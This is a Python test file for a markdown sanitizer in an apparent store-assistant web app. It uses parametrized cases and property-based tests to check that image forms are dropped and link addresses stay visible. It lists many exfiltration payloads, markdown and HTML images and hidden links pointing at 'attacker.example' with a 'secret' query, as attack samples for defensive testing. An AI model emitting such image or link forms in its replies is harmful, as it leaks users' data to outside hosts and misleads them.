"""What a reply may render as: every markdown image form is dropped and every link form shows its
address. Each syntax is checked by name, then random mixtures of them are rendered to HTML (by
markdown-it's own renderer, not the rebuild under test) and searched for an image or a hidden
link; the real browser's view is checked in test_browser.py."""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from markdown_it import MarkdownIt

from store_assistant.web.markdown import safe_markdown

EVIL = "https://attacker.example/p.png?q=secret"
LINK = "https://attacker.example/login"

IMAGES = {
    "inline": f"![status]({EVIL})",
    "inline with title": f'![status]({EVIL} "t")',
    "inline in angle brackets": f"![status](<{EVIL}>)",
    "reference": f"![status][r]\n\n[r]: {EVIL}",
    "collapsed reference": f"![status][]\n\n[status]: {EVIL}",
    "shortcut reference": f"![status]\n\n[status]: {EVIL}",
    "reference defined first": f"[r]: {EVIL}\n\n![status][r]",
    "inside a link": f"[![status]({EVIL})]({LINK})",
    "html img": f'<img src="{EVIL}">',
    "html img inline": f'Look <img src="{EVIL}"> here',
    "html picture block": f'<picture><source srcset="{EVIL}"></picture>',
    "inside a list": f"- one\n- ![status]({EVIL})",
    "inside a table": f"| a |\n|---|\n| ![status]({EVIL}) |",
    "inside a quote": f"> ![status]({EVIL})",
    "inside emphasis": f"**![status]({EVIL})**",
}
LINKS = {
    "inline": f"[Volt support]({LINK})",
    "inline with title": f'[Volt support]({LINK} "Volt")',
    "reference": f"[Volt support][r]\n\n[r]: {LINK}",
    "collapsed reference": f"[Volt support][]\n\n[Volt support]: {LINK}",
    "shortcut reference": f"[Volt support]\n\n[Volt support]: {LINK}",
    "autolink": f"<{LINK}>",
    "html anchor": f'<a href="{LINK}">Volt support</a>',
}


def html_of(markdown: str) -> str:
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


def shows_nothing_hidden(markdown: str) -> None:
    html = html_of(markdown)
    assert "<img" not in html and "<source" not in html, html
    for href, label in re.findall(r'<a href="([^"]*)"[^>]*>(.*?)</a>', html):
        assert href in label, html  # a link's address is in its visible text


@pytest.mark.parametrize("form", IMAGES)
def test_no_image_form_survives(form) -> None:
    written = IMAGES[form]
    shown = safe_markdown(written)
    shows_nothing_hidden(shown)
    if written.lstrip("Look ").startswith("<"):  # raw HTML: visible as text, never an element
        assert "\\<" in shown
    else:  # markdown: the alt text stays, the address goes
        assert "status" in shown and "p.png" not in shown


@pytest.mark.parametrize("form", LINKS)
def test_every_link_form_shows_its_address(form) -> None:
    shown = safe_markdown(LINKS[form])
    shows_nothing_hidden(shown)
    assert LINK in shown.replace("\\", "")
    assert "](" not in shown


def test_the_store_answer_formats_keep_their_shape() -> None:
    assert safe_markdown("1. **Sony XM5**: $329.99\n2. LG C3") == \
        "1. **Sony XM5**: \\$329.99\n2. LG C3"  # '$' escaped: two prices are not LaTeX
    table = "| Plan | 2 yr |\n|---|---|\n| $1,000 - $1,999.99 | $219.99 |"
    assert html_of(safe_markdown(table)).count("<td>") == 2
    steps = "Try this:\n\n1. Hold *Home*\n2. Press `Back`\n\n- a\n  - nested"
    html = html_of(safe_markdown(steps))
    assert "<ol>" in html and "<em>Home</em>" in html and "<code>Back</code>" in html
    assert html.count("<ul>") == 2
    assert "<h2>" in html_of(safe_markdown("## Setup"))


def test_text_that_looks_like_markup_stays_text() -> None:
    for text in ("# not a heading", "- not a list", "3) not a list", "> not a quote",
                 "a ~~b~~ c", "x <b>y</b>", "&lt;img&gt;", "$1 and $2"):
        html = html_of(safe_markdown(safe_markdown(text).replace("\\", "")))
        assert "<img" not in html
    assert html_of(safe_markdown("x <b>y</b>")) == "<p>x &lt;b&gt;y&lt;/b&gt;</p>\n"


PIECES = st.sampled_from([*IMAGES.values(), *LINKS.values(), "plain words", "**bold**", "`code`",
                          "\n", "\n\n", "- ", "1. ", "> ", "| a | b |\n|---|---|\n| c | d |",
                          "[", "]", "(", ")", "!", "<", ">", "\\", "```\n", "~~", "*", "_"])


@settings(max_examples=300, derandomize=True, database=None, deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(PIECES, st.text(max_size=6)), max_size=12).map("".join))
def test_no_mixture_renders_an_image_or_a_hidden_link(text) -> None:
    shown = safe_markdown(text)
    shows_nothing_hidden(shown)
    shows_nothing_hidden(safe_markdown(shown))  # and rebuilding twice is as safe
